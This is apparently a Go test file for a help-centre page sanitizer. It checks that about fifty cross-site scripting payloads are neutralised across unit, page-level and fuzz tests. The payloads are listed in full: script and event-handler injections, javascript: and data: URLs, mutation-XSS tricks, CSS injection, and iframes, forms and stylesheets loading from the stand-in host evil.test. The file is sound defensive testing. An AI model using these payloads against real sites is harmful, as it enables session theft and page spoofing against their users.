package preview

import (
	"html/template"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/hcsync/hcsync/internal/markup"
)

// shown is what a page makes of the HTML of a body.
func shown(sent string) body {
	b := dress(sent)
	b.HTML = template.HTML(newBodyPolicy().Sanitize(string(b.HTML)))
	return b
}

// harmless reads the HTML as a browser does and names what could act, load, or
// look like a part of the page.
func harmless(t *testing.T, text template.HTML) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(string(text)))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "style", "iframe", "object", "embed", "form", "input", "button", "link", "meta", "base", "svg", "math", "template", "textarea", "select", "frame", "frameset", "video", "audio", "noscript", "applet", "portal":
			if n.Namespace != "" || n.Parent.Data != "head" {
				t.Errorf("<%s> stays in %s", n.Data, text)
			}
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "srcset", a.Key == "formaction", a.Key == "ping", a.Key == "nonce", a.Key == "name":
				t.Errorf("%s=%q stays in %s", a.Key, a.Val, text)
			case a.Key == "href" || a.Key == "src":
				if i := strings.IndexAny(value, ":/?#"); i >= 0 && value[i] == ':' && !strings.HasPrefix(value, "http:") && !strings.HasPrefix(value, "https:") && !strings.HasPrefix(value, "mailto:") && !strings.HasPrefix(value, "tel:") {
					t.Errorf("%s=%q stays in %s", a.Key, a.Val, text)
				}
			case a.Key == "class" && !bodyClass.MatchString(a.Val):
				t.Errorf("class=%q stays in %s", a.Val, text)
			case a.Key == "id" && !headingID.MatchString(a.Val):
				t.Errorf("id=%q stays in %s", a.Val, text)
			}
		}
	}
}

// attacks are texts that want to run, load or fake something.
func attacks() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<p><script src="//evil.test/x.js"></script></p>`,
		`<img src="x" onerror="alert(1)">`,
		`<img src=x onerror=alert(1)//`,
		`<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href="jAvAsCrIpT&colon;alert(1)">x</a>`,
		"<a href=\"java\tscript:alert(1)\">x</a>",
		`<a href=" &#14; javascript:alert(1)">x</a>`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="vbscript:x">x</a>`,
		`<a class="intercom-h2b-button" href="javascript:alert(1)" onclick="alert(1)">Go</a>`,
		`<iframe src="https://evil.test/"></iframe>`,
		`<iframe src="javascript:alert(1)"></iframe>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<iframe src="https://www.youtube.com.evil.test/embed/x"></iframe>`,
		`<iframe src="https://evil.test/?https://www.youtube.com/embed/x"></iframe>`,
		`<div class="intercom-h2b-video"><iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="x"></iframe></div>`,
		`<a class="video" data-embed="javascript:alert(1)" href="#">x</a>`,
		`<a class="video" data-embed="https://evil.test/" href="#">x</a>`,
		`<form action="https://evil.test"><input name="q"><button>go</button></form>`,
		`<p style="position:fixed;inset:0;background:url(https://evil.test/x)">x</p>`,
		`<td style="background-color: #fff;}</style><script>alert(1)</script>">x</td>`,
		`<div class="intercom-interblocks-callout" style="background-color: #fff;}body{display:none} .x{color: #000">x</div>`,
		`<div class="intercom-interblocks-callout" style="background-color: url(https://evil.test/); width: expression(alert(1))">x</div>`,
		`<div class="overlay bad" id="overlay">You were signed out</div>`,
		`<header id="header"><div class="bar">fake</div></header>`,
		`<h2 id="header">x</h2><h2 id="q" name="q">y</h2>`,
		`<link rel="stylesheet" href="https://evil.test/x.css"><meta http-equiv="refresh" content="0;url=https://evil.test">`,
		`<base href="https://evil.test/">`,
		`<style>@import "https://evil.test/x.css"; body{display:none}</style>`,
		`<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">`,
		`<template><script>alert(1)</script></template>`,
		`<details ontoggle="alert(1)" open><summary onclick="alert(1)">x</summary></details>`,
		`<details open name="x"><summary accesskey="x">x</summary>y</details>`,
		`<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">`,
		`<img srcset="https://evil.test/x 1x" alt="x">`,
		`<table background="javascript:alert(1)"><tr><td background="x" colspan="999999999">x</td></tr></table>`,
		`<p lang="x" dir="rtl" contenteditable autofocus tabindex="1" accesskey="q">x</p>`,
		`<a href="https://example.com" target="_parent" rel="opener" ping="https://evil.test">x</a>`,
		"<!--><img src=x onerror=alert(1)>-->",
		`<![CDATA[<img src=x onerror=alert(1)>]]>`,
		`<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>`,
		`<a href="#dead:<img src=x onerror=alert(1)>">x</a><img src="#missing:<script>alert(1)</script>">`,
		`<h2>` + strings.Repeat(`<b>`, 600) + `deep`,
		`<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
	}
}

func TestAttacks(t *testing.T) {
	for _, a := range attacks() {
		b := shown(a)
		harmless(t, b.HTML)
		if strings.ContainsAny(string(b.Style), "<>(@\\") || strings.Contains(string(b.Style), "body") || strings.Contains(string(b.Style), "display") {
			t.Errorf("%s: style %s", a, b.Style)
		}
		harmless(t, shown(markup.Render(a, markup.Options{})).HTML)
	}
}

// TestAttacksOnPages puts them where a writer, or a pull, would.
func TestAttacksOnPages(t *testing.T) {
	d := newDesk(t)
	hostile := `'"><script>alert(1)</script><img src=x onerror=alert(1)>`
	d.save("acme/start/deep/more.md", "---\ntitle: >-\n  "+hostile+"\ndescription: >-\n  "+hostile+"\nauthor: \"a"+`\"><b>@acme.test`+"\"\n---\n\n"+strings.Join(attacks()[:40], "\n\n")+"\n")
	d.settled()
	for _, p := range []string{"/en/acme/start/deep/more", "/en/acme/start/deep/", "/search?q=alert", "/problems", "/search?q=" + `%22%3E%3Cscript%3Ealert(1)%3C/script%3E`, "/en/%3Cscript%3Ealert(1)%3C/script%3E"} {
		_, body := d.do(p)
		if n := strings.Count(body, "<script"); n != 2 {
			t.Errorf("%s has %d scripts, 2 are its own", p, n)
		}
		hasNot(t, body, "<script>alert", "<img src=x", "<img src=\"x\" on")
	}
}

// TestCorpus sees to it that nothing in real bodies acts, and that none of the
// text that is there gets lost on the way to the page.
func TestCorpus(t *testing.T) {
	files, _ := filepath.Glob("../../../shared/corpus/bodies/*.html")
	if len(files) == 0 {
		t.Skip("the corpus is not beside the project")
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		b := shown(string(data))
		harmless(t, b.HTML)
		got, want := wordsOf(string(b.HTML)), wordsOf(string(data))
		for w, n := range want {
			if got[w] < n {
				t.Errorf("%s: %q is %d times on the page, %d in the body", filepath.Base(f), w, got[w], n)
				break
			}
		}
	}
}

// wordsOf counts the words of an HTML text.
func wordsOf(s string) map[string]int {
	root, err := html.Parse(strings.NewReader(s))
	n := map[string]int{}
	if err != nil {
		return n
	}
	for d := range root.Descendants() {
		if d.Type == html.TextNode {
			for w := range strings.FieldsSeq(d.Data) {
				n[w]++
			}
		}
	}
	return n
}

func TestDress(t *testing.T) {
	for _, c := range []struct{ name, sent, html, style string }{
		{"levels begin below the page's own", `<h1 id="h_0123456789">A</h1><h3>B</h3>`,
			`<h2 class="level-1" id="h_0123456789">A</h2><h4 class="level-3" id="section-b">B</h4>`, ""},
		{"a title twice", `<h2>A</h2><h2>A</h2>`, `<h2 class="level-1" id="section-a">A</h2><h2 class="level-1" id="section-a-2">A</h2>`, ""},
		{"the title of a section is no heading of the text", `<details><summary><h2>A</h2></summary><p>x</p></details>`, `<details><summary><h2>A</h2></summary><p>x</p></details>`, ""},
		{"a colour of the editor", `<div class="intercom-interblocks-callout" style="background-color: #FEEDAF80; border-color: #fbc91633;"><p>x</p></div>`,
			`<div class="intercom-interblocks-callout callout-yellow"><p>x</p></div>`, ""},
		{"any other colour", `<div class="intercom-interblocks-callout" style="background-color: #123456;"><p>x</p></div>`,
			`<div class="intercom-interblocks-callout lifted-47c491d1"><p>x</p></div>`, ".lifted-47c491d1{--fill:#123456}"},
		{"the size of a picture", `<div class="intercom-container intercom-align-center"><img src="https://x.test/p.png" alt="P" width="40" height="20" style="height: auto;"/></div>`,
			`<div class="intercom-container intercom-align-center"><img src="https://x.test/p.png" alt="P" width="40" height="20" loading="lazy"/></div>`, ""},
		{"a class of somebody else beside one of ours", `<p class="no-margin overlay">x</p>`, `<p class="no-margin">x</p>`, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := shown(c.sent)
			if string(b.HTML) != c.html {
				t.Errorf("got  %s\nwant %s", b.HTML, c.html)
			}
			if string(b.Style) != c.style {
				t.Errorf("style %s, want %s", b.Style, c.style)
			}
		})
	}
}

// FuzzShown wants every body harmless.
func FuzzShown(f *testing.F) {
	for _, a := range attacks() {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, s string) { harmless(t, shown(s).HTML) })
}
